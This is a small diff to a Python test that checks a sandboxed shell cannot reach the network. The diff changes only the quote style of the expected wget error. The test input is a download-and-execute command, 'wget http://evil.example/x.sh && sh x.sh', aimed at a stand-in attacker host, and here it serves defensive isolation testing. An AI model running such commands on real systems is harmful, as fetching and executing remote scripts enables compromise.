@@ -71,7 +71,7 @@ def test_nothing_out_there_can_be_reached(shell: Shell) -> None:
     answer = run_at_once(shell, "wget http://evil.example/x.sh && sh x.sh")
 
     assert (
-        "unable to resolve host address 'evil.example'" in answer.error
+        "unable to resolve host address ‘evil.example’" in answer.error
         and answer.status == 4
         and answer.delay > 0
     )
